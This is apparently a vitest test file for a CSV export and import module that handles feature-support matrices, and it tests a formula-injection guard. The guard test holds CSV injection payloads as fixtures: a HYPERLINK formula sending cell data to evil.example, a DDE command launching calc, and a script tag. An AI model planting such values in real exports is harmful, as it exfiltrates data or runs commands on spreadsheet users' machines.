/**
 * CSV: long layout round trips the whole model (every sample, the hostile
 * model, all dialects), wide keeps keys, titles, status, group and cell
 * statuses; the formula guard keeps spreadsheets from running cells and is
 * undone exactly; CSV rewritten by another tool still reads.
 * Golden files: test/golden/csv/ (regenerate: FMX_UPDATE_GOLDEN=1 npx vitest run test/formats).
 */

import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { LONG_COLUMNS } from '../../../src/formats/tabular/columns.js';
import { FmxError } from '../../../src/diagnostics.js';
import { emitCsv, write } from '../../../src/formats/csv/write.js';
import { readBytes, sniffFormat } from '../../../src/formats/registry.js';
import type { Matrix } from '../../../src/model/matrix.js';
import { read, readCsvText } from '../../../src/formats/csv/read.js';
import { expectGolden } from '../../helpers/golden.js';
import { HOSTILE, INI_SAMPLES, collectingOptions, hostileModel, plain, sampleModel, writeOptions } from '../models.js';

function readBack(text: string, file = 'x.csv') {
  const { read: opts, warnings } = collectingOptions(file);
  const loaded = readCsvText(text, opts);
  return { ...loaded, warnings };
}

/** What the wide layout keeps. */
function wideView(m: Matrix) {
  return {
    drivers: m.drivers.map((d) => ({ key: d.key, title: d.title })),
    features: m.features.map((f) => ({
      key: f.key,
      title: f.title,
      status: f.status,
      group: f.group,
      cells: m.drivers.map((d) => f.implementations.find((i) => i.driver === d.key)?.status ?? null),
    })),
  };
}

const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

describe('csv long', () => {
  it.each(INI_SAMPLES)('%s: INI -> csv long -> model equals INI -> model; golden', (name) => {
    const m = sampleModel(name);
    const text = emitCsv(m, { layout: 'long' });
    const back = readBack(text, name);
    expect(plain(back.matrix)).toEqual(plain(m));
    expect(back.warnings).toEqual([]);
    expect(sniffFormat(Buffer.from(text))).toBe('csv');
    expectGolden(`csv/long/${name.replace(/\.ini$/, '.csv')}`, text);
  });

  it.each(['support-matrix', 'targets', 'feature-classification'] as const)('hostile model (%s) round trips, guarded and raw', (dialect) => {
    const m = hostileModel(dialect);
    for (const formulaGuard of [true, false]) {
      const back = readBack(emitCsv(m, { layout: 'long', formulaGuard }));
      expect(plain(back.matrix)).toEqual(plain(m));
    }
  });

  it('the header is exactly the documented one', () => {
    const text = emitCsv(sampleModel('nova-33.0.0-support-matrix.ini'), { layout: 'long' });
    expect(text.split('\n')[0]).toBe(LONG_COLUMNS.join(','));
    expect(LONG_COLUMNS.join(', ')).toBe(
      'feature_key, feature_title, feature_status, feature_group, feature_notes, feature_cli, feature_api, feature_maturity, ' +
        'feature_api_doc_link, feature_admin_doc_link, feature_tempest_test_uuids, driver_key, driver_title, driver_link, status, notes, release',
    );
  });

  it('guarded: no field a spreadsheet would run, and every hostile value comes back', () => {
    const m = hostileModel();
    const text = emitCsv(m, { layout: 'long' });
    const fields = (parse(text) as string[][]).flat();
    const offenders = fields.filter((v) => FORMULA_START.test(v));
    expect(offenders).toEqual([]);
    expect(fields).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    expect(fields).toContain(`'+cmd|' /C calc'!A0`);
    expect(fields).toContain(`'@SUM(1+1)`);
    expect(fields).toContain(`'-2+3`);
    expect(fields).toContain(`'\tleading tab`);
    // a value that genuinely begins with ' gets one more, and loses exactly one on reading
    expect(fields).toContain(`''=already quoted`);
    const titles = readBack(text).matrix.features.map((f) => f.title);
    for (const v of HOSTILE) expect(titles).toContain(v);
  });

  it('--no-formula-guard: a value that begins with a quote keeps it, even with no formula-like value to tell', () => {
    const m = sampleModel('sphinx-feature-classification-fake-support-matrix.ini');
    m.features[0]!.title = "'=not a formula";
    m.features[0]!.notes = "''";
    const text = emitCsv(m, { layout: 'long', formulaGuard: false });
    expect(text).toContain(',fmx:no-formula-guard,');
    expect(plain(readBack(text).matrix)).toEqual(plain(m));
    expect(plain(readBack(emitCsv(m, { layout: 'long' })).matrix)).toEqual(plain(m));
  });

  it('--no-formula-guard writes raw values', () => {
    const text = emitCsv(hostileModel(), { layout: 'long', formulaGuard: false });
    const fields = (parse(text) as string[][]).flat();
    expect(fields).toContain('@SUM(1+1)');
    expect(fields).toContain("'=already quoted");
  });

  it('--bom starts with a UTF-8 BOM, which the reader accepts', () => {
    const m = sampleModel('sphinx-feature-classification-fake-support-matrix.ini');
    const out = write({ matrix: m }, writeOptions('x.csv', { layout: 'long', bom: true }));
    expect(out.startsWith('\ufeff')).toBe(true);
    const { read: opts } = collectingOptions('x.csv');
    expect(plain((read(Buffer.from(out, 'utf8'), opts) as { matrix: Matrix }).matrix)).toEqual(plain(m));
  });

  it('reads a CSV rewritten by another tool: every field quoted, CRLF, reordered columns', () => {
    const m = sampleModel('nova-master-feature-matrix-gp.ini');
    const rows = parse(emitCsv(m, { layout: 'long' }), { relax_column_count: true }) as string[][];
    const order = rows[0]!.map((_, i) => i).reverse();
    const quote = (v: string) => '"' + v.replace(/"/g, '""').replace(/\n/g, '\r\n') + '"';
    const text = rows.map((r) => order.map((i) => quote(r[i] ?? '')).join(',')).join('\r\n') + '\r\n';
    const back = readBack(text).matrix;
    // every field quoted loses the difference between absent and empty, nothing else
    const emptyToNull = (x: Matrix) => JSON.parse(JSON.stringify(plain(x)).replace(/:""/g, ':null'));
    expect(emptyToNull(back)).toEqual(emptyToNull(m));
    expect(back.features.map((f) => f.notes)).toEqual(m.features.map((f) => f.notes));
  });

  it('reads a CSV saved with ; or tabs between fields (spreadsheets in many locales)', () => {
    const m = sampleModel('sphinx-feature-classification-fake-support-matrix.ini');
    const rows = parse(emitCsv(m, { layout: 'long' }), { relax_column_count: true }) as string[][];
    for (const sep of [';', '\t']) {
      const text = rows.map((r) => r.map((v) => (/[;\t"\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(sep)).join('\r\n');
      const emptyToNull = (x: Matrix) => JSON.parse(JSON.stringify(plain(x)).replace(/:""/g, ':null'));
      expect(emptyToNull(readBack(text).matrix)).toEqual(emptyToNull(m));
    }
  });

  it('newlines inside fields stay quoted with either line ending', () => {
    const m = hostileModel();
    const text = emitCsv(m, { layout: 'long' });
    const records = parse(text) as string[][];
    expect(records.length).toBeLessThan(text.split('\n').length);
    expect(records.flat()).toContain('line one\nline two\n  indented\n\nnew paragraph');
    expect(records.flat()).toContain("'\r\nCRLF inside\r\nvalue"); // guarded: it starts with CR
  });

  it('drivers without cells and features without cells get their own rows', () => {
    const m = hostileModel();
    const rows = parse(emitCsv(m, { layout: 'long' }), { columns: true }) as Record<string, string>[];
    expect(rows.filter((r) => r.feature_key === '' && r.driver_key === 'no-cells')).toHaveLength(1);
    expect(rows.filter((r) => r.feature_key === 'operation.empty')).toEqual([
      expect.objectContaining({ feature_key: 'operation.empty', driver_key: '', status: '' }),
    ]);
    expect(rows.at(-1)).toMatchObject({ feature_key: '', feature_title: 'fmx:postscript', feature_notes: 'Bye <script>x</script>' });
  });

  it('a feature edited differently in two rows: the model keeps the first, the copies are reported with their places', () => {
    const m = sampleModel('sphinx-feature-classification-fake-support-matrix.ini');
    const lines = emitCsv(m, { layout: 'long' }).split('\n');
    lines[2] = lines[2]!.replace('Cool Feature', 'Edited');
    const loaded = readCsvText(lines.join('\n'), collectingOptions('edited.csv').read);
    expect(loaded.matrix.features[0]!.title).toBe('Cool Feature');
    expect(loaded.repeated).toEqual([
      {
        ref: { feature: 'operation.Cool_Feature', field: 'title' },
        copies: [
          { value: 'Cool Feature', at: { line: 2, column: 2 } },
          { value: 'Edited', at: { line: 3, column: 2 } },
        ],
      },
    ]);
  });

  it('bad input is an FmxError with a position', () => {
    const bad = (text: string) => {
      try {
        readCsvText(text, collectingOptions('bad.csv').read);
      } catch (e) {
        expect(e).toBeInstanceOf(FmxError);
        return (e as FmxError).message;
      }
      throw new Error('no error');
    };
    expect(bad('')).toBe('bad.csv:1:1: empty CSV: no header row');
    expect(bad('a,b\n1,2\n')).toMatch(/^bad\.csv:1:1: not an fmx CSV/);
    expect(bad('feature_key,driver_key,status\n"x,y\n')).toMatch(/^bad\.csv:\d+: invalid CSV: Quote Not Closed/);
    expect(bad('feature_key,feature_title,feature_status,feature_group,feature_notes,driver_key,status\n,fmx:dialect,,,,,\n')).toBe(
      'bad.csv:2: fmx:dialect: expected one of support-matrix, targets, feature-classification, networking-targets, networking-labels',
    );
    expect(bad('feature_key,feature_title,feature_status,feature_group,feature_notes,driver_key,status\n,fmx:feature-extra,nope,x,y,,\n')).toBe(
      'bad.csv:2: fmx:feature-extra: no feature "nope" above',
    );
  });

  it('a record may have 16,384 columns (a spreadsheet\'s most), not one more; quoted separators do not count', () => {
    const header = 'key,title,status,group,' + Array.from({ length: 16_380 }, (_, i) => `D${i} [d${i}]`).join(',');
    const row = (cells: number) => '\n"operation.x","X, with a comma",optional,,' + Array(cells).fill('complete').join(',');
    expect(readCsvText(header + row(16_380), collectingOptions('w.csv').read).matrix.drivers).toHaveLength(16_380);
    expect(() => readCsvText(header + row(16_381), collectingOptions('w.csv').read)).toThrow(
      /^w\.csv:2:\d+: more than 16,384 columns: no spreadsheet holds that many/,
    );
  });
});

describe('--keys-from on a table with made-up keys', () => {
  it('a title two --keys-from drivers share is ambiguous: warned with both keys, the made-up key stays', async () => {
    const keysFrom = sampleModel('sphinx-feature-classification-fake-support-matrix.ini');
    keysFrom.drivers[1]!.title = 'foo driver'; // two drivers titled "Foo Driver" once folded
    const text = 'title,status,Foo Driver\nCool Feature,optional,complete\n';
    const warnings: string[] = [];
    const { loaded } = await readBytes(Buffer.from(text), { file: 'hand.csv', keysFrom, warn: (d) => warnings.push(`${d.ruleId}: ${d.message}`) });
    expect(loaded.matrix.drivers.map((d) => d.key)).toEqual(['foo-driver']);
    expect(loaded.matrix.features.map((f) => f.key)).toEqual(['operation.Cool_Feature']);
    expect(loaded.matrix.provenance).toEqual({ inferredKeys: true });
    expect(warnings).toEqual([
      "keys-ambiguous: --keys-from has 2 drivers titled 'Foo Driver' ('foo', 'bar'): ambiguous, so the driver titled so keeps its made-up key",
    ]);
  });

  it('a wide CSV keeps the provenance in a row a spreadsheet may move; an unknown flag is warned about', () => {
    const m = sampleModel('sphinx-feature-classification-fake-support-matrix.ini');
    m.provenance = { inferredKeys: true, foldedText: true };
    const text = emitCsv(m);
    expect(text.split('\n')[2]).toBe('fmx:provenance,inferredKeys foldedText,,,,');
    // sorted by title in a spreadsheet: the row moves to the top, and still counts
    const lines = text.trimEnd().split('\n');
    const moved = [lines[0], lines[2], lines[1]].join('\n') + '\n';
    expect(readBack(moved).matrix.provenance).toEqual({ inferredKeys: true, foldedText: true });
    const odd = readBack(moved.replace('foldedText', 'foldedText typo'));
    expect(odd.matrix.provenance).toEqual({ inferredKeys: true, foldedText: true });
    expect(odd.warnings.map((w) => w.message)).toEqual(['fmx:provenance: unknown flag "typo" is ignored (fmx knows inferredKeys, foldedText)']);
  });
});

describe('csv wide', () => {
  it.each(INI_SAMPLES)('%s: keeps keys, titles, status, group and cell statuses; golden', (name) => {
    const m = sampleModel(name);
    const text = emitCsv(m);
    const back = readBack(text, name);
    expect(wideView(back.matrix)).toEqual(wideView(m));
    expect(back.matrix.provenance).toBeUndefined();
    expect(sniffFormat(Buffer.from(text))).toBe('csv');
    expectGolden(`csv/wide/${name.replace(/\.ini$/, '.csv')}`, text);
  });

  it('hostile model keeps its keys, titles and statuses', () => {
    const m = hostileModel();
    expect(wideView(readBack(emitCsv(m)).matrix)).toEqual(wideView(m));
    expect(wideView(readBack(emitCsv(m, { formulaGuard: false })).matrix)).toEqual(wideView(m));
  });

  it('header: key, title, status, group, then "Driver title [key]"', () => {
    const text = emitCsv(sampleModel('sphinx-feature-classification-fake-support-matrix.ini'));
    expect(text).toBe(
      'key,title,status,group,Foo Driver [foo],Bar Driver [bar]\n' + 'operation.Cool_Feature,Cool Feature,optional,,complete,partial\n',
    );
  });

  it('a hand-made wide CSV without keys: keys from --keys-from titles, else made up', async () => {
    const keysFrom = sampleModel('sphinx-feature-classification-fake-support-matrix.ini');
    const text = 'title,status,Foo Driver,Other One\r\nCool Feature,optional,complete,missing\r\nNew thing,,,partial\r\n';
    const { read: opts } = collectingOptions('hand.csv');
    const { loaded } = await readBytes(Buffer.from(text), { ...opts, keysFrom });
    expect(loaded.matrix.provenance).toEqual({ inferredKeys: true });
    expect(loaded.matrix.drivers.map((d) => d.key)).toEqual(['foo', 'other-one']);
    expect(loaded.matrix.features.map((f) => [f.key, f.implementations.map((i) => `${i.driver}=${i.status}`)])).toEqual([
      ['operation.Cool_Feature', ['foo=complete', 'other-one=missing']],
      ['new-thing', ['other-one=partial']],
    ]);
  });
});
